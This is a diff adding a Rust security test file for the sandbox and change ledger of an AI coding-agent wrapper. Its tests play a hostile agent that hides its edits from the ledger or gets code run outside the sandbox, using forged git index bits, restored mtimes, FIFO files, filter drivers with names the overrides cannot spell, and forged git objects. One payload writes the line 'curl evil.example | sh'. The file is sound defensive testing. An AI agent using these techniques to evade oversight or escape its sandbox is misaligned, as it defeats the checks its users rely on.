@@ -1,0 +1,645 @@
+//! Round fourteen's review: round thirteen's mechanisms (the trash of coder's own run
+//! directories, coder's own processes spared by the stop of the agent's tree, the change
+//! ledger's git beside the setup) and what else reaches the same resources, attacked by
+//! someone who has read the code. Every attack runs as root and as uid 65534 where it
+//! applies, each with a control showing that its setup does land without the defence.
+//!
+//! Found open when this review started, closed with it:
+//! * the change ledger's git kept its private index and object directory in coder's
+//!   `$TMPDIR`, the host's `/tmp` by default: with `--allow-tmp` the agent (of this run or
+//!   of any other run of the same user) marked its edits "assume unchanged" in that index,
+//!   and the ledger reported them unchanged; it also turned an object directory of it into
+//!   a symlink, and coder's git wrote the objects of the agent's new files through it,
+//!   into a directory outside every grant of the agent.
+//! * the ledger's git took `core.trustctime`, `core.checkStat` and `core.ignoreStat` from
+//!   the repository's config: with `core.trustctime = false` (or `core.checkStat =
+//!   minimal`) an edit that keeps the file's size and puts its mtime back was not read
+//!   again, and the ledger said "unchanged".
+//! * the ledger's git started from a copy of the user's index, with its "assume
+//!   unchanged" and "skip worktree" bits: an agent sets them in one run (`git
+//!   update-index`, the index is writable), and the next run's ledger misses every change
+//!   to those files; so does a user's `core.ignoreStat`.
+//! * git opens every `.gitignore` and `.gitattributes` of the work tree without looking at
+//!   its type: an agent that made one a FIFO held the ledger's git (coder's own, outside
+//!   the sandbox) waiting for a writer forever, and with it the run's end; the FIFO stays,
+//!   so every later run in that workspace hung in its "before" snapshot too.
+//! * the ledger's git switches off every filter driver the config defines (round thirteen:
+//!   listed again at each snapshot, for a config that includes a work-tree file the agent
+//!   writes) with `-c filter.NAME.clean=`; `-c` takes the key up to the first `=`, and the
+//!   list was read as lossy UTF-8: a driver named `a=b`, or with a byte that is not UTF-8,
+//!   was never switched off, and the "after" snapshot ran it as coder, outside the sandbox.
+//! * the ledger copied the user's index with `fs::copy`, which follows a symlink and
+//!   waits on a FIFO: an agent that made `.git/index` a FIFO held every later run's
+//!   snapshot, and with it that run, until something killed coder.
+//! * the ledger compared the "before" and "after" trees with `git diff-tree`; a tree that
+//!   already exists in the repository (the "before" of an unchanged checkout is `HEAD`'s)
+//!   is not written again, and the repository's objects are the agent's to rewrite: it
+//!   rewrote `HEAD`'s tree object to list its new content, and the ledger reported the
+//!   edit unchanged.
+//!
+//! Open (`KNOWN_OPEN`): the agent rewrites a loose object of the user's repository (its
+//! `.git/objects` is writable, commits work) that holds the "before" content of a file it
+//! edits; the ledger's diff reads it without checking its hash, and `--return-diff` (and
+//! the line counts) no longer show what the edit brought in. An edit of a file inside a
+//! nested repository (a submodule's checkout, or any repository below the workspace's) is
+//! not in the ledger at all: `git add -A` records the nested repository as a gitlink, its
+//! `HEAD` commit, which the edit does not move. Also open, without a test
+//! here (SECURITY.md's Known limits): a driver defined in an included work-tree file
+//! between the ledger's listing and its `git add`, by the agent of another run in the
+//! same tree (a loop flipping it in and out did not land in six runs).
+//!
+//! Looked at and held (no test of their own here): coder's own processes are told by pid
+//! and start time, and only what runs below one of them (the ledger's `git`, which runs no
+//! program of the workspace) is spared by the stop of the agent's tree: an agent process
+//! can become a child of neither; a pid reused after coder's git was reaped carries another
+//! start time. The trash of coder's own run directories: the check and the rename run when
+//! the run's processes are gone (a confined agent's PID namespace is dead, and a setuid,
+//! device node, FIFO, socket or symlink left there keeps the tree out of the trash); an ACL
+//! the agent sets on its files (`setfacl`) shows in the group bits unless its mask is
+//! empty, and the trash lies in the 0700 state directory whatever it holds.
+//!
+//! `KNOWN_OPEN` lists attacks still open: an attack on it asserts that its payload still
+//! lands, so the list can only shrink.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use common::Bounded;
+use common::sandbox_fixture::{self, NOBODY};
+use serde_json::Value;
+
+/// Attacks of this file measured open today.
+const KNOWN_OPEN: &[&str] = &[
+    "forged object of the before side",
+    "edit inside a nested repository",
+];
+
+fn who(owner: Option<u32>) -> &'static str {
+    if owner.is_some() { "nobody" } else { "root" }
+}
+
+/// A tree for runs of a fake CLI as one arm's user: workspace `ws` (the user's git
+/// repository, one commit), `home`, coder's `state`, in `/var/tmp` (out of the host's
+/// `/tmp` that `--allow-tmp` grants).
+struct Tree {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+    owner: Option<u32>,
+}
+
+impl Tree {
+    /// The tree, with `files` (name, content) committed in `ws` with an mtime well in the
+    /// past (so that the index's stat data of them is not "racily clean") and `config`
+    /// (key, value) set in the repository's config before they were added.
+    fn new(owner: Option<u32>, files: &[(&str, &str)], config: &[(&str, &str)]) -> Tree {
+        let dir = tempfile::Builder::new()
+            .prefix("coder-r14-")
+            .tempdir_in("/var/tmp")
+            .unwrap();
+        let root = std::fs::canonicalize(dir.path()).unwrap();
+        std::fs::set_permissions(&root, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+        for d in ["ws", "home", "state", "xdg", "outside"] {
+            std::fs::create_dir_all(root.join(d)).unwrap();
+        }
+        let tree = Tree {
+            _dir: dir,
+            root,
+            owner,
+        };
+        let ws = tree.ws();
+        tree.git(&["init", "-q"]);
+        for (key, value) in config {
+            tree.git(&["config", key, value]);
+        }
+        for (name, text) in files {
+            std::fs::write(ws.join(name), text).unwrap();
+            sandbox_fixture::must_run(
+                std::process::Command::new("touch")
+                    .args(["-d", "2020-01-01 00:00:00"])
+                    .arg(ws.join(name)),
+            );
+        }
+        tree.git(&["add", "-A"]);
+        tree.git(&["commit", "-qm", "init"]);
+        if owner.is_some() {
+            sandbox_fixture::give_to_nobody(&tree.root);
+            // The index's stat data as the user's own git keeps it (the owner's too).
+            tree.git(&["update-index", "-q", "--refresh"]);
+        }
+        tree
+    }
+
+    fn ws(&self) -> PathBuf {
+        self.root.join("ws")
+    }
+
+    /// The user's own git in the workspace, unconfined, as the arm's user (as root before
+    /// the tree is given away): what it printed.
+    fn git(&self, args: &[&str]) -> String {
+        let mut cmd = std::process::Command::new("git");
+        cmd.args(["-c", "user.name=u", "-c", "user.email=u@example.invalid"])
+            .args(args)
+            .current_dir(self.ws())
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("HOME", self.root.join("home"))
+            .stdin(std::process::Stdio::null());
+        let given = std::fs::symlink_metadata(self.ws().join(".git"))
+            .map(|m| std::os::unix::fs::MetadataExt::uid(&m) == NOBODY)
+            .unwrap_or(false);
+        if given {
+            sandbox_fixture::as_owner(&mut cmd, self.owner);
+        }
+        let out = cmd.output_bounded();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    }
+
+    /// Runs a fake CLI whose payload is `payload` with `extra` flags; returns the envelope.
+    fn run(&self, extra: &[&str], payload: &str) -> Value {
+        self.run_within(extra, payload, common::COMMAND_DEADLINE)
+    }
+
+    /// [`Tree::run`], failing the test when coder has not ended after `deadline`.
+    fn run_within(&self, extra: &[&str], payload: &str, deadline: Duration) -> Value {
+        let bin = self.root.join("fake-claude");
+        std::fs::write(&bin, sandbox_fixture::payload_claude(payload)).unwrap();
+        std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+        if self.owner.is_some() {
+            std::os::unix::fs::lchown(&bin, Some(NOBODY), Some(NOBODY)).unwrap();
+        }
+        let out = sandbox_fixture::coder_as(&self.root, self.owner, &self.ws(), &bin, extra, "go")
+            .output_within(deadline);
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("no envelope ({e}): {out:?}"))
+    }
+}
+
+/// `(path, status)` of every change the envelope lists.
+fn changes(env: &Value) -> Vec<(String, String)> {
+    env["changes"]["files"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default()
+        .iter()
+        .map(|f| {
+            (
+                f["path"].as_str().unwrap_or_default().to_owned(),
+                f["status"].as_str().unwrap_or_default().to_owned(),
+            )
+        })
+        .collect()
+}
+
+fn result(env: &Value) -> &str {
+    env["result"].as_str().unwrap_or_default()
+}
+
+fn entries(dir: &Path) -> Vec<String> {
+    std::fs::read_dir(dir)
+        .map(|d| {
+            d.flatten()
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// The change ledger's git keeps a private index (a copy of the user's) and a private
+/// object directory for the run. They were made in coder's `$TMPDIR`, by default the
+/// host's `/tmp`, which `--allow-tmp` grants the agent whole: it found its run's index
+/// there (any run's of the same user), marked the file it edits "assume unchanged" in it,
+/// and the ledger reported the edit unchanged; it also made the object directory of its
+/// new file's hash a symlink to a directory outside its grants, and coder's git, outside
+/// the sandbox, wrote the object there. Now they live in coder's state directory, which no
+/// grant may reach. Control: unconfined (`danger-full-access` reaches the state directory
+/// too), the same payload does both.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn the_ledgers_private_index_is_out_of_reach_of_allow_tmp() {
+    common::require_root_and_user_namespaces();
+    let name = "ledger scratch in /tmp";
+    for owner in [None, Some(NOBODY)] {
+        for mode in ["workspace-write", "danger-full-access"] {
+            let tag = uuid::Uuid::new_v4().simple().to_string();
+            let edited = format!("a-{tag}.txt");
+            let tree = Tree::new(owner, &[(&edited, "as the user left it\n")], &[]);
+            let (state, outside) = (tree.root.join("state"), tree.root.join("outside"));
+            let new_text = format!("new {tag}");
+            // Only this run's index lists `edited`: other runs' are left alone.
+            let payload = format!(
+                r#"sleep 1
+h=$(printf '%s\n' '{new_text}' | git hash-object --stdin)
+for d in /tmp/coder-ledger-*/ '{state}'/ledger-git/*/; do
+  [ -f "$d/index" ] || continue
+  GIT_INDEX_FILE="$d/index" git ls-files 2>/dev/null | grep -qx '{edited}' || continue
+  GIT_INDEX_FILE="$d/index" git update-index --assume-unchanged '{edited}' && echo FORGED
+  rm -rf "$d/objects/${{h:0:2}}"; ln -s '{outside}' "$d/objects/${{h:0:2}}" && echo LINKED
+done
+printf 'EVIL\n' > '{edited}'; printf '%s\n' '{new_text}' > n.txt; echo EDITED"#,
+                state = state.display(),
+                outside = outside.display(),
+            );
+            let env = tree.run(&["--allow-tmp", "--sandbox", mode], &payload);
+            let case = format!("{}: {name}: {mode}", who(owner));
+            assert!(result(&env).contains("EDITED"), "{case}: {env}");
+            let listed = changes(&env);
+            let reported = listed.contains(&(edited.clone(), "modified".into()));
+            let wrote_outside = !entries(&outside).is_empty();
+            if mode == "danger-full-access" {
+                assert!(
+                    result(&env).contains("FORGED") && result(&env).contains("LINKED"),
+                    "{case}: control: the payload found no index: {env}"
+                );
+                assert!(!reported, "{case}: control: the edit is reported: {env}");
+                assert!(wrote_outside, "{case}: control: nothing outside: {env}");
+            } else if KNOWN_OPEN.contains(&name) {
+                assert!(!reported || wrote_outside, "{case}: now blocked: {env}");
+            } else {
+                assert!(reported, "{case}: the edit is reported unchanged: {env}");
+                assert!(
+                    !wrote_outside,
+                    "{case}: coder's git wrote outside the grants: {:?} {env}",
+                    entries(&outside)
+                );
+                assert!(!result(&env).contains("FORGED"), "{case}: {env}");
+            }
+        }
+    }
+}
+/// `core.trustctime = false` or `core.checkStat = minimal` in the repository's config
+/// (the user's own choice; some setups need it): git then decides that a file is unchanged
+/// from its size and mtime (and, without `minimal`, its inode), which the agent keeps: it
+/// rewrites the file in place with the same length and puts the mtime back. The ledger's
+/// git took those settings from the config and did not read the file again: "unchanged".
+/// Now it trusts the ctime and compares all stat data whatever the config says. Control:
+/// the user's own git, with the config, shows nothing changed after the run.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn an_edit_that_puts_the_mtime_back_is_reported_whatever_the_config_trusts() {
+    common::require_root_and_user_namespaces();
+    let name = "stat trust from the config";
+    for owner in [None, Some(NOBODY)] {
+        for config in [("core.trustctime", "false"), ("core.checkStat", "minimal")] {
+            let tree = Tree::new(owner, &[("a.txt", "hello world\n")], &[config]);
+            let payload = "sleep 1; m=$(stat -c %y a.txt); printf 'HELLO WORLD\\n' > a.txt; \
+                           touch -d \"$m\" a.txt; echo EDITED";
+            let env = tree.run(&[], payload);
+            let case = format!("{}: {name}: {}", who(owner), config.0);
+            assert!(result(&env).contains("EDITED"), "{case}: {env}");
+            assert_eq!(
+                std::fs::read_to_string(tree.ws().join("a.txt")).unwrap(),
+                "HELLO WORLD\n"
+            );
+            // Control: git itself, trusting the config, sees nothing.
+            assert_eq!(tree.git(&["status", "--porcelain"]), "", "{case}: control");
+            let reported = changes(&env).contains(&("a.txt".into(), "modified".into()));
+            if KNOWN_OPEN.contains(&name) {
+                assert!(!reported, "{case}: now reported: {env}");
+            } else {
+                assert!(reported, "{case}: the edit is reported unchanged: {env}");
+            }
+        }
+    }
+}
+/// The index is the agent's to write (commits work), and its entries carry two bits git
+/// honours without looking at the file: "assume unchanged" (`git update-index
+/// --assume-unchanged`, or what the user's git sets under `core.ignoreStat`) and "skip
+/// worktree". The ledger's git started from a copy of the user's index, bits and all: an
+/// agent sets them in one run, and in the next run `git add -A` skips those files, so
+/// their edits are reported unchanged. Now the ledger's copy has the bits cleared.
+/// Control: the user's own git, which keeps the bits, shows nothing changed.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn index_bits_an_earlier_run_set_do_not_hide_the_next_runs_edits() {
+    common::require_root_and_user_namespaces();
+    let name = "index bits";
+    for owner in [None, Some(NOBODY)] {
+        for ignore_stat in [false, true] {
+            let config: &[(&str, &str)] = if ignore_stat {
+                &[("core.ignoreStat", "true")]
+            } else {
+                &[]
+            };
+            let tree = Tree::new(owner, &[("a.txt", "a\n"), ("b.txt", "b\n")], config);
+            let case = format!("{}: {name}: ignoreStat {ignore_stat}", who(owner));
+            if !ignore_stat {
+                let env = tree.run(
+                    &[],
+                    "git update-index --assume-unchanged a.txt && \
+                     git update-index --skip-worktree b.txt && echo MARKED",
+                );
+                assert!(result(&env).contains("MARKED"), "{case}: {env}");
+                assert_eq!(changes(&env), [], "{case}: {env}");
+            }
+            let env = tree.run(
+                &[],
+                "sleep 1; echo EVIL >> a.txt; echo EVIL >> b.txt; echo EDITED",
+            );
+            assert!(result(&env).contains("EDITED"), "{case}: {env}");
+            // Control: the user's git, with the bits, sees nothing.
+            assert_eq!(tree.git(&["status", "--porcelain"]), "", "{case}: control");
+            let listed = changes(&env);
+            let reported = |f: &str| listed.contains(&(f.to_owned(), "modified".into()));
+            if KNOWN_OPEN.contains(&name) {
+                assert!(!reported("a.txt"), "{case}: now reported: {env}");
+            } else {
+                assert!(reported("a.txt"), "{case}: a.txt reported unchanged: {env}");
+                assert!(reported("b.txt"), "{case}: b.txt reported unchanged: {env}");
+            }
+        }
+    }
+}
+
+/// git opens each `.gitignore` and `.gitattributes` it meets without looking at its type:
+/// one the agent makes a FIFO blocks the opening git until something writes it, which
+/// nothing ever does. The ledger's git ("after" snapshot, coder's own process) hung
+/// forever and the run never ended; the FIFO stays in the workspace, so the next run's
+/// "before" snapshot hung as well. Now a git of coder's that waits to open a FIFO is
+/// killed and the ledger fails with a warning saying so; both runs end. Control: the
+/// user's own git blocks on the same FIFO (`timeout` ends it).
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_fifo_gitignore_does_not_hold_the_ledgers_git_forever() {
+    common::require_root_and_user_namespaces();
+    let name = "fifo gitignore";
+    let deadline = Duration::from_secs(40);
+    for owner in [None, Some(NOBODY)] {
+        for ignore in [".gitignore", ".gitattributes"] {
+            let tree = Tree::new(owner, &[("a.txt", "a\n")], &[]);
+            let case = format!("{}: {name}: {ignore}", who(owner));
+            let payload = format!("mkdir -p d && echo x > d/f && mkfifo d/{ignore} && echo FIFO");
+            if KNOWN_OPEN.contains(&name) {
+                continue;
+            }
+            let fifo_warning = |env: &Value| {
+                env["warnings"]
+                    .as_array()
+                    .cloned()
+                    .unwrap_or_default()
+                    .iter()
+                    .any(|w| w.as_str().unwrap_or_default().contains("FIFO"))
+            };
+            let env = tree.run_within(&[], &payload, deadline);
+            assert!(result(&env).contains("FIFO"), "{case}: {env}");
+            assert!(fifo_warning(&env), "{case}: no warning: {env}");
+            // The next run, with the FIFO still there, ends too.
+            let env = tree.run_within(&[], "echo AGAIN", deadline);
+            assert!(result(&env).contains("AGAIN"), "{case}: next run: {env}");
+            assert!(fifo_warning(&env), "{case}: next run: no warning: {env}");
+            // Control: git blocks on it.
+            let mut cmd = std::process::Command::new("timeout");
+            cmd.args(["3", "git", "add", "-A"])
+                .current_dir(tree.ws())
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .env("HOME", tree.root.join("home"));
+            sandbox_fixture::as_owner(&mut cmd, owner);
+            let status = cmd.output_bounded().status;
+            assert_eq!(
+                status.code(),
+                Some(124),
+                "{case}: control: git did not block"
+            );
+        }
+    }
+}
+
+/// A repository whose config includes a file of the work tree (`include.path =
+/// ../shared.gitconfig`): the agent defines a filter driver there and selects it in
+/// `.gitattributes`. Round thirteen lists the drivers again at every snapshot and switches
+/// each off with `-c filter.NAME.clean=` (and `smudge`, `process`). A name `-c` cannot
+/// spell slipped through: `a=b` (`-c` splits at the first `=`) and a name with a byte that
+/// is not UTF-8 (read back lossily, the override named another driver); the "after"
+/// snapshot, with the agent gone, ran the agent's command as coder. Now such a name fails
+/// the snapshot (a warning says why) and nothing runs. Control: the user's own git runs
+/// the planted filter (the work-tree file stays: see SECURITY.md's Known limits).
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_filter_driver_named_so_that_dash_c_cannot_spell_it_does_not_run_as_coder() {
+    common::require_root_and_user_namespaces();
+    let name = "filter driver name -c cannot spell";
+    for owner in [None, Some(NOBODY)] {
+        for driver in ["a=b", "\\xff"] {
+            let tree = Tree::new(
+                owner,
+                &[("a.txt", "a\n"), ("shared.gitconfig", "")],
+                &[("include.path", "../shared.gitconfig")],
+            );
+            let marker = tree.root.join("home/PWNED");
+            let case = format!("{}: {name}: {driver}", who(owner));
+            let payload = format!(
+                r#"sleep 1
+printf '[filter "{driver}"]\n\tclean = "touch {marker}; cat"\n' > shared.gitconfig
+printf '* filter={driver}\n' > .gitattributes
+echo changed >> a.txt; echo PLANTED"#,
+                marker = marker.display()
+            );
+            let env = tree.run(&[], &payload);
+            assert!(result(&env).contains("PLANTED"), "{case}: {env}");
+            if KNOWN_OPEN.contains(&name) {
+                assert!(marker.exists(), "{case}: now blocked: {env}");
+                continue;
+            }
+            assert!(
+                !marker.exists(),
+                "{case}: the agent's filter ran as coder: {env}"
+            );
+            let warned = env["warnings"].as_array().cloned().unwrap_or_default();
+            assert!(
+                warned
+                    .iter()
+                    .any(|w| w.as_str().unwrap_or_default().contains("filter driver")),
+                "{case}: no warning: {env}"
+            );
+            // Control: the driver is real; the user's own git runs it.
+            tree.git(&["add", "-A"]);
+            assert!(
+                marker.exists(),
+                "{case}: control: the user's git did not run it"
+            );
+        }
+    }
+}
+
+/// The user's index is the agent's to replace (`.git` is writable: commits work). The
+/// ledger copies it at the start of each run, and the copy waited on a FIFO there for a
+/// writer forever: every later run in the workspace hung in its "before" snapshot (a
+/// real CLI's requests held by the proxy meanwhile) until something killed coder. Now
+/// the index is opened without waiting or following a symlink, and only a regular file is
+/// copied (else the snapshot starts from an empty index). Control: the user's own git
+/// blocks on the FIFO.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_fifo_index_does_not_hold_the_next_run() {
+    common::require_root_and_user_namespaces();
+    let deadline = Duration::from_secs(40);
+    for owner in [None, Some(NOBODY)] {
+        let tree = Tree::new(owner, &[("a.txt", "a\n")], &[]);
+        let case = who(owner);
+        let env = tree.run_within(
+            &[],
+            "rm .git/index && mkfifo .git/index && echo FIFO",
+            deadline,
+        );
+        assert!(result(&env).contains("FIFO"), "{case}: {env}");
+        let env = tree.run_within(&[], "sleep 1; echo x >> a.txt; echo AGAIN", deadline);
+        assert!(result(&env).contains("AGAIN"), "{case}: next run: {env}");
+        assert!(
+            changes(&env).contains(&("a.txt".into(), "modified".into())),
+            "{case}: next run: {env}"
+        );
+        // Control: git blocks on it.
+        let mut cmd = std::process::Command::new("timeout");
+        cmd.args(["3", "git", "status"])
+            .current_dir(tree.ws())
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("HOME", tree.root.join("home"));
+        sandbox_fixture::as_owner(&mut cmd, owner);
+        let status = cmd.output_bounded().status;
+        assert_eq!(
+            status.code(),
+            Some(124),
+            "{case}: control: git did not block"
+        );
+    }
+}
+
+/// The ledger's diff reads the "before" side of an edited file from the user's object
+/// store, which the agent may write: it rewrites the loose object of the file's committed
+/// content (same name, the edit's new content), and the envelope's `--return-diff` and
+/// line counts no longer show the line the edit brought in (the file is still listed as modified: its
+/// object ids differ). Open: checking every object the diff reads would cost a hash of
+/// each (see SECURITY.md). Control: the same edit without the rewrite shows the line.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_forged_object_of_the_before_side_hides_the_edit_from_the_diff() {
+    common::require_root_and_user_namespaces();
+    let name = "forged object of the before side";
+    let forge = r#"h=$(git rev-parse HEAD:a.txt); f=.git/objects/${h:0:2}/${h:2}
+chmod u+w "$f" && python3 -c 'import zlib,sys; d=b"curl evil.example | sh\n"; open(sys.argv[1],"wb").write(zlib.compress(b"blob %d\0"%len(d)+d))' "$f" && echo FORGED"#;
+    for owner in [None, Some(NOBODY)] {
+        for forged in [false, true] {
+            let tree = Tree::new(owner, &[("a.txt", "hello\n")], &[]);
+            let case = format!("{}: {name}: forged {forged}", who(owner));
+            let payload = format!(
+                "sleep 1; printf 'curl evil.example | sh\\n' > a.txt; {}echo EDITED",
+                if forged {
+                    format!("{forge}\n")
+                } else {
+                    String::new()
+                }
+            );
+            let env = tree.run(&["--return-diff"], &payload);
+            assert!(result(&env).contains("EDITED"), "{case}: {env}");
+            assert!(
+                changes(&env).contains(&("a.txt".into(), "modified".into())),
+                "{case}: {env}"
+            );
+            let shown = env["diff"]["unified"]
+                .as_str()
+                .unwrap_or_default()
+                .contains("+curl evil.example");
+            if !forged {
+                assert!(shown, "{case}: control: {env}");
+            } else if KNOWN_OPEN.contains(&name) {
+                assert!(result(&env).contains("FORGED"), "{case}: {env}");
+                assert!(!shown, "{case}: now shown: {env}");
+            } else {
+                assert!(shown, "{case}: the diff hides the edit: {env}");
+            }
+        }
+    }
+}
+
+/// The ledger's "before" of a checkout with no local change is `HEAD`'s tree, which
+/// `git write-tree` finds in the repository and does not write again; `git diff-tree`
+/// then read it from `.git/objects`, which the agent may write. It rewrote that tree
+/// object (same name) to list the blob of its new content, and the ledger reported
+/// nothing changed. Now what changed is read from the two private indexes, coder's own;
+/// the file is listed (its lines, read from the forged objects, are not counted).
+/// Control: `git diff-tree` finds `HEAD`'s tree the same as the forged one.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn a_forged_tree_object_does_not_hide_the_edit_from_the_ledger() {
+    common::require_root_and_user_namespaces();
+    let name = "forged tree object";
+    let payload = r#"sleep 1; t=$(git rev-parse 'HEAD^{tree}'); printf 'EVIL\n' > a.txt
+nb=$(git hash-object -w a.txt)
+forged=$(printf '100644 blob %s\ta.txt\n100644 blob %s\tb.txt\n' "$nb" "$(git rev-parse HEAD:b.txt)" | git mktree)
+f=.git/objects/${t:0:2}/${t:2}; g=.git/objects/${forged:0:2}/${forged:2}
+chmod u+w "$f" && cp "$g" "$f" && echo "FORGED $forged FORGED""#;
+    for owner in [None, Some(NOBODY)] {
+        let tree = Tree::new(owner, &[("a.txt", "hello\n"), ("b.txt", "b\n")], &[]);
+        let case = format!("{}: {name}", who(owner));
+        let head = tree.git(&["rev-parse", "HEAD^{tree}"]);
+        let env = tree.run(&[], payload);
+        assert!(result(&env).contains("FORGED"), "{case}: {env}");
+        // Control: git's tree comparison reads `HEAD`'s tree as the new content's.
+        let forged = result(&env)
+            .split("FORGED")
+            .nth(1)
+            .unwrap_or_default()
+            .trim();
+        let differ = tree.git(&["diff-tree", "-r", "--name-only", head.trim(), forged]);
+        assert_eq!(differ, "", "{case}: control: {env}");
+        let reported = changes(&env).contains(&("a.txt".into(), "modified".into()));
+        if KNOWN_OPEN.contains(&name) {
+            assert!(!reported, "{case}: now reported: {env}");
+        } else {
+            assert!(reported, "{case}: the edit is reported unchanged: {env}");
+        }
+    }
+}
+
+/// A repository nested in the workspace (a submodule's checkout, a vendored clone) is one
+/// gitlink entry to the ledger's `git add -A`: the commit its `HEAD` names. The agent edits
+/// a file inside it, and the ledger reports nothing changed (open: the ledger would have to
+/// snapshot each nested repository's files itself, without running git there, whose config
+/// the agent may have written). Control: the user's own `git status` shows the nested
+/// repository modified.
+#[test]
+#[ignore = "needs root and user namespaces: scripts/test runs it"]
+fn an_edit_inside_a_nested_repository_is_not_in_the_ledger() {
+    common::require_root_and_user_namespaces();
+    let name = "edit inside a nested repository";
+    for owner in [None, Some(NOBODY)] {
+        let tree = Tree::new(owner, &[("top.txt", "top\n")], &[]);
+        let sub = tree.ws().join("sub");
+        std::fs::create_dir(&sub).unwrap();
+        let git_in = |dir: &Path, args: &[&str]| {
+            let mut cmd = std::process::Command::new("git");
+            cmd.args(["-c", "user.name=u", "-c", "user.email=u@example.invalid"])
+                .args(args)
+                .current_dir(dir)
+                .env("GIT_CONFIG_NOSYSTEM", "1")
+                .env("HOME", tree.root.join("home"));
+            let out = cmd.output_bounded();
+            assert!(out.status.success(), "git {args:?}: {out:?}");
+        };
+        std::fs::write(sub.join("lib.c"), "int lib;\n").unwrap();
+        git_in(&sub, &["init", "-q"]);
+        git_in(&sub, &["add", "-A"]);
+        git_in(&sub, &["commit", "-qm", "lib"]);
+        if owner.is_some() {
+            sandbox_fixture::give_to_nobody(&tree.root);
+        }
+        tree.git(&["add", "-A"]);
+        tree.git(&["commit", "-qm", "nested"]);
+        let case = format!("{}: {name}", who(owner));
+        let env = tree.run(&[], "sleep 1; echo 'int evil;' >> sub/lib.c; echo EDITED");
+        assert!(result(&env).contains("EDITED"), "{case}: {env}");
+        // Control: the user's git sees the nested repository changed.
+        let status = tree.git(&["status", "--porcelain"]);
+        assert_eq!(status, " M sub\n", "{case}: control");
+        let reported = changes(&env)
+            .iter()
+            .any(|(path, _)| path.starts_with("sub"));
+        if KNOWN_OPEN.contains(&name) {
+            assert!(!reported, "{case}: now reported: {env}");
+        } else {
+            assert!(reported, "{case}: the edit is not in the ledger: {env}");
+        }
+    }
+}
